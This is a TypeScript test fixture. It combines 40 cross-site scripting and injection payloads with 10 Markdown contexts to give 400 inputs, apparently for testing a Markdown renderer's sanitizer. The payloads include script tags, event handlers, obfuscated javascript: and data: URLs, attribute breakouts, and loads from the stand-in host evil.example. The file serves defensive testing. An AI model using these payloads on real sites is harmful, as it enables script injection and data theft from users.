/**
 * Payloads that run, or ask another site, where a writer's text becomes elements: they set `ran`, or load from
 * `evil.example`.
 */
const acts = [
  '<script>globalThis.ran=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '</script><script>globalThis.ran=1</script>',
  '</title><script>globalThis.ran=1</script>',
  '</style><script>globalThis.ran=1</script>',
  '</textarea><script>globalThis.ran=1</script>',
  ']]><script>globalThis.ran=1</script>',
  '--><script>globalThis.ran=1</script>',
  '<img src=x onerror="globalThis.ran=1">',
  '<img src="https://evil.example/x.png">',
  '<svg onload="globalThis.ran=1">',
  '<svg><script>globalThis.ran=1</script></svg>',
  '<math href="javascript:globalThis.ran=1">x</math>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<details open ontoggle="globalThis.ran=1">x</details>',
  '<input autofocus onfocus="globalThis.ran=1">',
  '<video><source onerror="globalThis.ran=1"></video>',
  '<form action="https://evil.example/"><button>x</button></form>',
  '"onmouseover="globalThis.ran=1',
  '" autofocus onfocus="globalThis.ran=1',
  "'-globalThis.ran=1-'",
  '[x](javascript:globalThis.ran=1)',
  '[x](JaVaScRiPt:globalThis.ran=1)',
  '[x](javascript&#58;globalThis.ran=1)',
  '[x](java\tscript:globalThis.ran=1)',
  '[x](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+)',
  '[x](vbscript:x)',
  '[x](//evil.example/x)',
  '[x](/\\evil.example/x)',
  '[x](https://a.example/"onmouseover="globalThis.ran=1)',
  '[x](/a "title\\" onmouseover=\\"globalThis.ran=1")',
  '<javascript:globalThis.ran=1>',
  '![x](https://evil.example/x.png)',
  '`$\\href{javascript:globalThis.ran=1}{x}$`',
];

/** Where a text may stand in Markdown of ours. */
const places: ((act: string) => string)[] = [
  (act) => act,
  (act) => `## ${act}`,
  (act) => `- ${act}\n- b`,
  (act) => `> ${act}`,
  (act) => `| a | b |\n|---|---|\n| ${act} | c |`,
  (act) => `**${act}**`,
  (act) => `\`\`\`${act}\n${act}\n\`\`\``,
  (act) => `\`\`\`quiz\n? ${act}\n- ${act}\n+ b\n= ${act}\n\`\`\``,
  (act) => `\`\`\`today\n1. ${act}\n\n${act}\n\`\`\``,
  (act) => `x [1]\n\n\`\`\`sources\n${act} https://a.example/${act}\n\`\`\``,
];

/** 400 texts. */
export const scriptPayloads: string[] = acts.flatMap((act) => places.map((place) => place(act)));
